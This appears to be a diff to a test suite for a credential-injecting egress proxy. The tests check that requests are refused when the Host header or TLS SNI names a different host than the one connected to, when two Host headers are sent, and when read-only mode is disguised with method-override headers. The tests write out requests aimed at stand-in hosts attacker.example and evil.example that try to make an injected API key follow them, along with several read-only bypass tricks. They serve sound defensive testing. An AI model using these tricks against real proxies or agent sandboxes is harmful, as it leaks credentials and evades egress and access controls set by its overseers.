@@ -20,7 +20,7 @@ from tests.test_proxy_fixtures import Curl, FakeUpstream, closed_port, make_ca, 
 
 ROUTED = ("api.anthropic.com", "api.github.com", "github.com", "api.openai.com", "chatgpt.com", "eu.chatgpt.com",
           "api.pagerduty.com", "sentry.io", "registry.npmjs.org", "auth.docker.io", "auth.openai.com",
-          "grafana.example.com")
+          "grafana.example.com", "attacker.example")
 
 SECRETS = {
     "GITHUB_TOKEN": random_secret("ghp_"),
@@ -336,3 +336,91 @@ def test_audit_lines_name_credentials_never_values(world):
     raw = (world.home.root / "audit.jsonl").read_text()
     for value in ALL_SECRET_VALUES:
         assert value not in raw
+
+
+def _forwarded(world: World, prefix: str) -> list:
+    return [s for s in world.upstream.seen if s.path.startswith(prefix)]
+
+
+@pytest.mark.parametrize("url,host_header", [
+    ("http://attacker.example/mis-plain", "api.anthropic.com"),        # plain HTTP, absolute URL
+    ("https://attacker.example/mis-tls", "api.anthropic.com"),         # inside the CONNECT tunnel
+    ("http://attacker.example/mis-port", "api.anthropic.com:80"),
+    ("https://attacker.example/mis-github", "api.github.com"),
+    ("https://api.anthropic.com/mis-reverse", "attacker.example"),     # the other way round
+])
+def test_a_host_header_naming_another_host_is_421_and_nothing_is_forwarded(world, url, host_header):
+    """The attack that leaked the real key: the URL (what the proxy connects to) says one host, the Host
+    header (what routing, policy and injection used to read) another."""
+    curl = world.session("s-mis", creds={"anthropic_api_key", "github_token"}, egress="allowlist",
+                         allowlist=["api.github.com"])
+    status, _, body = curl(url, "-H", f"Host: {host_header}", "-H", "x-api-key: placeholder")
+    assert status == 421, body
+    assert "misdirected" in body
+    assert not _forwarded(world, "/mis-")
+    path = "/" + url.split("/", 3)[3]
+    assert wait_audit(world, "s-mis", lambda r: r["path"] == path and r["blocked"] == "misdirected"
+                      and r["status"] == 421 and r["credential"] is None)
+
+
+@pytest.mark.parametrize("host_header", ["API.GitHub.com", "api.github.com.", "api.github.com:443",
+                                         "xn--api-github-com-x.invalid"])
+def test_the_same_host_in_another_spelling_is_accepted_or_refused_by_its_canonical_form(world, host_header):
+    curl = world.session("s-spell", creds={"github_token"})
+    status, _, _ = curl("https://api.github.com/spelling", "-H", f"Host: {host_header}")
+    assert status == (421 if host_header.startswith("xn--") else 200)
+
+
+def test_two_host_headers_are_refused(world):
+    import base64 as b64
+    import socket
+
+    password, digest = new_proxy_password()
+    world.service.register_session(SessionProxyConfig("s-two", "name-s-two", digest, "claude", set()))
+    auth = b64.b64encode(f"s-two:{password}".encode()).decode()
+    with socket.create_connection(("127.0.0.1", world.port), timeout=30) as sock:
+        sock.sendall(f"GET http://api.github.com/two-hosts HTTP/1.1\r\nHost: api.github.com\r\n"
+                     f"Host: evil.example\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n\r\n"
+                     .encode())
+        reply = sock.recv(65536)
+    assert reply.split(b" ", 2)[1] in (b"400", b"421"), reply[:200]
+    assert not _forwarded(world, "/two-hosts")
+
+
+def test_a_tls_sni_naming_another_host_than_the_tunnel_is_421(world):
+    """CONNECT to attacker.example, then TLS with SNI and Host api.anthropic.com: the key must not follow."""
+    import base64 as b64
+    import socket
+    import ssl
+
+    password, digest = new_proxy_password()
+    world.service.register_session(SessionProxyConfig("s-sni", "name-s-sni", digest, "claude", {"anthropic_api_key"}))
+    raw = socket.create_connection(("127.0.0.1", world.port), timeout=30)
+    auth = b64.b64encode(f"s-sni:{password}".encode()).decode()
+    raw.sendall(f"CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n"
+                f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
+    assert raw.recv(4096).startswith(b"HTTP/1.1 200")
+    tls = ssl.create_default_context(cafile=str(world.ca)).wrap_socket(raw, server_hostname="api.anthropic.com")
+    tls.sendall(b"GET /mis-sni HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: placeholder\r\n"
+                b"Connection: close\r\n\r\n")
+    reply = b""
+    while chunk := tls.recv(65536):
+        reply += chunk
+    tls.close()
+    assert reply.startswith(b"HTTP/1.1 421"), reply[:200]
+    assert not _forwarded(world, "/mis-sni")
+
+
+@pytest.mark.parametrize("args", [
+    ("-H", "X-HTTP-Method-Override: DELETE"),
+    ("-H", "X-HTTP-Method: PUT"),
+    ("-H", "X-Method-Override: PATCH"),
+    ("-X", "GET", "-d", '{"title": "written by a GET"}'),
+    ("-H", "Connection: Upgrade", "-H", "Upgrade: websocket", "-H", "Sec-WebSocket-Version: 13",
+     "-H", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
+], ids=["x-http-method-override", "x-http-method", "x-method-override", "get-with-body", "websocket"])
+def test_read_only_cannot_be_bypassed_by_a_disguised_write(world, args):
+    curl = world.session("s-ro-bypass", creds={"github_token"}, access_mode="read-only")
+    status, _, body = curl("https://api.github.com/repos/x/ro-bypass", *args)
+    assert status == 403 and "read-only" in body
+    assert not _forwarded(world, "/repos/x/ro-bypass")
